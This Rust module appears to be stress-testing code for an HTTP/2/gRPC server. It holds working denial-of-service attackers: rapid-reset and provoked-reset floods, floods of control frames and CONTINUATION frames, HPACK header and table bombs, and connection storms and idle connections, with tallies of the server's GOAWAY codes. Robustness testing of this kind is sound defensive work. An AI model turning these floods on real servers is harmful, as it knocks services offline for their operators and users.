//! Owns peers that ask too much: floods of frames that cost the sender little, and of connections.
//! Knows what each sends and what became of its connections; knows no server.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use crate::raw_http2::{
    COMPLETE, FRAME_BYTES_MAX, HEALTH_CHECK, PREFACE, fields, flag, frame, grpc_fields, head, kind,
    open_block, setting,
};

/// How long an attacker waits for room before it looks whether it shall go on.
const WRITE_PATIENCE: Duration = Duration::from_millis(20);
/// Frames that are sent together.
const BURST: u32 = 64;
/// Connections that are held at the same time: attacker and server may have 1024 files each.
const CONNECTIONS: usize = 500;
/// The code of a connection that ended without one.
const NO_CODE: u64 = u64::MAX;

/// What an attack came to.
#[derive(Debug)]
pub struct Tally {
    /// Frames sent, or connections opened where the attack is one of those.
    pub sent: AtomicU64,
    /// Connections that the server ended.
    pub cut: AtomicU64,
    /// The last code that the server gave for it.
    code: AtomicU64,
    /// Times that the server took nothing for `WRITE_PATIENCE`.
    pub stalled: AtomicU64,
}

impl Default for Tally {
    fn default() -> Self {
        let zero = || AtomicU64::new(0);
        Self { sent: zero(), cut: zero(), stalled: zero(), code: AtomicU64::new(NO_CODE) }
    }
}

impl Tally {
    /// The code that the server gave last.
    #[must_use]
    pub fn code(&self) -> Option<u64> {
        Some(self.code.load(Ordering::Relaxed)).filter(|code| *code != NO_CODE)
    }

    fn add(count: &AtomicU64, by: u64) {
        count.fetch_add(by, Ordering::Relaxed);
    }
}

/// What an attacker does until it is told to stop.
#[derive(Clone, Copy, Debug)]
enum Kind {
    /// One connection after the other, with frames: the opening, then bursts by number.
    Frames { opening: fn() -> Vec<u8>, burst: fn(u32) -> Vec<u8>, burst_frames: u32 },
    /// Connections that say hello and hang up.
    Storm,
    /// Connections that stay and say nothing more.
    Idle,
    /// Nothing at all, as fast as it can.
    Spin,
}

/// An attack by name.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// What it is called in tables.
    pub name: &'static str,
    kind: Kind,
}

/// All attacks.
#[must_use]
pub fn all() -> Vec<Attack> {
    let frames = |name, opening, burst| Attack {
        name,
        kind: Kind::Frames { opening, burst, burst_frames: BURST },
    };
    let big = |name, burst, burst_frames| Attack {
        name,
        kind: Kind::Frames { opening: Vec::new, burst, burst_frames },
    };
    vec![
        frames("rapid reset", Vec::new, rapid_reset),
        frames("resets provoked", Vec::new, provoked_reset),
        frames("PING", Vec::new, |_| frame(kind::PING, 0, 0, &[7; 8]).repeat(BURST as usize)),
        frames("SETTINGS", Vec::new, |_| {
            frame(kind::SETTINGS, 0, 0, &setting(3, 100)).repeat(BURST as usize)
        }),
        frames("WINDOW_UPDATE", Vec::new, |_| {
            frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(BURST as usize)
        }),
        frames("PRIORITY", Vec::new, |_| {
            frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 3, 9]).repeat(BURST as usize)
        }),
        frames("unknown frames", Vec::new, |_| {
            frame(kind::UNKNOWN, 0, 0, &[]).repeat(BURST as usize)
        }),
        frames("empty DATA", waiting_call, |_| frame(kind::DATA, 0, 1, &[]).repeat(BURST as usize)),
        frames("DATA of one byte", waiting_call, |_| {
            frame(kind::DATA, 0, 1, &[0]).repeat(BURST as usize)
        }),
        frames("empty CONTINUATION", begun_block, |_| {
            frame(kind::CONTINUATION, 0, 1, &[]).repeat(BURST as usize)
        }),
        frames("small CONTINUATION", begun_block, |_| {
            frame(kind::CONTINUATION, 0, 1, &fields(&[("a", "b")])).repeat(BURST as usize)
        }),
        big("header bomb of 1 MiB", header_bomb, 65),
        big("header bomb by table", table_bomb, 1),
        frames("calls of nothing", Vec::new, empty_calls),
        Attack { name: "1000 connections", kind: Kind::Storm },
        Attack { name: "500 idle", kind: Kind::Idle },
    ]
}

/// What costs the machine as much as an attacker and the server nothing: one core in use.
#[must_use]
pub fn spin() -> Attack {
    Attack { name: "(a core in use)", kind: Kind::Spin }
}

/// One of the attacks by name, for a run against something that is no server.
///
/// # Panics
/// When there is none of that name.
#[must_use]
pub fn named(name: &str) -> Attack {
    all().into_iter().find(|attack| attack.name == name).expect("an attack of that name")
}

/// The stream that the `index`th frame of the `burst`th burst opens.
fn stream(burst: u32, index: u32) -> u32 {
    2 * (burst * BURST + index) + 1
}

fn per_stream(burst: u32, frames: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..BURST).flat_map(|index| frames(stream(burst, index))).collect()
}

fn rapid_reset(burst: u32) -> Vec<u8> {
    let block = fields(&grpc_fields(COMPLETE));
    per_stream(burst, |stream| {
        let reset = frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8]);
        [open_block(stream, &block), reset].concat()
    })
}

/// Frames that make the server reset the stream.
fn provoked_reset(burst: u32) -> Vec<u8> {
    let block = fields(&grpc_fields(COMPLETE));
    per_stream(burst, |stream| {
        let by_nothing = frame(kind::WINDOW_UPDATE, 0, stream, &[0; 4]);
        [open_block(stream, &block), by_nothing].concat()
    })
}

fn empty_calls(burst: u32) -> Vec<u8> {
    let block = fields(&grpc_fields(HEALTH_CHECK));
    let flags = flag::END_HEADERS | flag::END_STREAM;
    per_stream(burst, |stream| frame(kind::HEADERS, flags, stream, &block))
}

fn waiting_call() -> Vec<u8> {
    open_block(1, &fields(&grpc_fields(COMPLETE)))
}

fn begun_block() -> Vec<u8> {
    frame(kind::HEADERS, 0, 1, &fields(&grpc_fields(COMPLETE)))
}

fn header_bomb(burst: u32) -> Vec<u8> {
    let stream = 2 * burst + 1;
    let filling = "v".repeat(FRAME_BYTES_MAX - 16);
    let part = fields(&[("x-long", filling.as_str())]);
    let mut bytes = frame(kind::HEADERS, 0, stream, &fields(&grpc_fields(COMPLETE)));
    for index in 0..64 {
        let flags = if index == 63 { flag::END_HEADERS } else { 0 };
        bytes.extend(head(part.len(), kind::CONTINUATION, flags, stream));
        bytes.extend(&part);
    }
    bytes
}

/// A field of 4000 bytes that enters the table once and is then named 12,000 times.
fn table_bomb(burst: u32) -> Vec<u8> {
    let mut block = fields(&grpc_fields(COMPLETE));
    block.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
    block.extend([b'v'; 4000]);
    block.resize(FRAME_BYTES_MAX, 0xbe);
    open_block(2 * burst + 1, &block)
}

/// An attack that goes on until it is stopped.
#[derive(Debug)]
pub struct Running {
    stop: Arc<AtomicBool>,
    tally: Arc<Tally>,
    thread: JoinHandle<()>,
}

impl Attack {
    /// The same under another name.
    #[must_use]
    pub fn called(self, name: &'static str) -> Self {
        Self { name, ..self }
    }

    /// Starts it on a thread of its own.
    #[must_use]
    pub fn start(self, address: SocketAddr) -> Running {
        let stop = Arc::new(AtomicBool::new(false));
        let tally = Arc::new(Tally::default());
        let attacker = Attacker { address, stop: Arc::clone(&stop), tally: Arc::clone(&tally) };
        let thread = std::thread::spawn(move || match self.kind {
            Kind::Frames { opening, burst, burst_frames } => {
                attacker.send_frames(opening, burst, burst_frames);
            }
            Kind::Storm => attacker.storm(),
            Kind::Idle => attacker.idle(),
            Kind::Spin => while !attacker.is_over() {},
        });
        Running { stop, tally, thread }
    }
}

impl Running {
    /// Ends it.
    ///
    /// # Panics
    /// When the attacker did.
    #[must_use]
    pub fn stop(self) -> Arc<Tally> {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.thread().unpark();
        self.thread.join().expect("an attacker does not panic");
        self.tally
    }
}

struct Attacker {
    address: SocketAddr,
    stop: Arc<AtomicBool>,
    tally: Arc<Tally>,
}

impl Attacker {
    fn is_over(&self) -> bool {
        self.stop.load(Ordering::Relaxed)
    }

    fn hello(&self) -> io::Result<TcpStream> {
        let mut socket = TcpStream::connect(self.address)?;
        socket.set_write_timeout(Some(WRITE_PATIENCE))?;
        socket.set_nodelay(true)?;
        socket.write_all(&[PREFACE, &frame(kind::SETTINGS, 0, 0, &[])].concat())?;
        Ok(socket)
    }

    fn send_frames(&self, opening: fn() -> Vec<u8>, burst: fn(u32) -> Vec<u8>, burst_frames: u32) {
        while !self.is_over() {
            let Ok(mut socket) = self.hello() else { continue };
            let Ok(reading) = socket.try_clone() else { continue };
            let tally = Arc::clone(&self.tally);
            let reader = std::thread::spawn(move || read_all(reading, &tally));
            let mut is_cut = self.send(&mut socket, &opening()).is_err();
            for number in 0.. {
                if is_cut || self.is_over() {
                    break;
                }
                is_cut = self.send(&mut socket, &burst(number)).is_err();
                Tally::add(&self.tally.sent, u64::from(burst_frames));
            }
            Tally::add(&self.tally.cut, u64::from(is_cut));
            let _ = socket.shutdown(std::net::Shutdown::Both); // it may be over already
            reader.join().expect("a reader does not panic");
        }
    }

    /// Sends all, or less when the attack is over.
    fn send(&self, socket: &mut TcpStream, bytes: &[u8]) -> io::Result<()> {
        let mut rest = bytes;
        while !rest.is_empty() && !self.is_over() {
            match socket.write(rest) {
                Ok(0) => return Err(ErrorKind::WriteZero.into()),
                Ok(len) => rest = &rest[len..],
                Err(error) if error.kind() == ErrorKind::WouldBlock => {
                    Tally::add(&self.tally.stalled, 1);
                }
                Err(error) if error.kind() == ErrorKind::Interrupted => {}
                Err(error) => return Err(error),
            }
        }
        Ok(())
    }

    fn storm(&self) {
        while !self.is_over() {
            let wave: Vec<_> = (0..CONNECTIONS).map_while(|_| self.hello().ok()).collect();
            Tally::add(&self.tally.sent, wave.len() as u64);
        }
    }

    fn idle(&self) {
        let held: Vec<_> = (0..CONNECTIONS).map_while(|_| self.hello().ok()).collect();
        Tally::add(&self.tally.sent, held.len() as u64);
        while !self.is_over() {
            std::thread::park();
        }
    }
}

/// Reads to the end of a connection, so that the server never waits for its reader, and notes the
/// code that the server ends it with.
fn read_all(mut socket: TcpStream, tally: &Tally) {
    let mut chunk = vec![0; 1 << 16];
    let mut received: Vec<u8> = Vec::new();
    while let Ok(len @ 1..) = socket.read(&mut chunk) {
        received.extend(&chunk[..len]);
        let mut start = 0;
        while let Some([a, b, c, kind, ..]) = received.get(start..start + 9) {
            let end = start + 9 + u32::from_be_bytes([0, *a, *b, *c]) as usize;
            let Some(frame) = received.get(start..end) else { break };
            if let (kind::GOAWAY, Some(code)) = (*kind, frame.get(13..17)) {
                let code = u32::from_be_bytes(code.try_into().expect("four bytes"));
                tally.code.store(u64::from(code), Ordering::Relaxed);
            }
            start = end;
        }
        received.drain(..start);
    }
}

/// Takes everything and says nothing, for as long as the process lives: where an attack costs its
/// sender what it costs, and no server anything.
///
/// # Panics
/// When no port can be had.
#[must_use]
pub fn sink() -> SocketAddr {
    let listener = TcpListener::bind(("127.0.0.1", 0)).expect("a port");
    let address = listener.local_addr().expect("it has one");
    std::thread::spawn(move || {
        let mut chunk = vec![0; 1 << 16];
        for mut socket in listener.incoming().map_while(Result::ok) {
            while let Ok(1..) = socket.read(&mut chunk) {}
        }
    });
    address
}
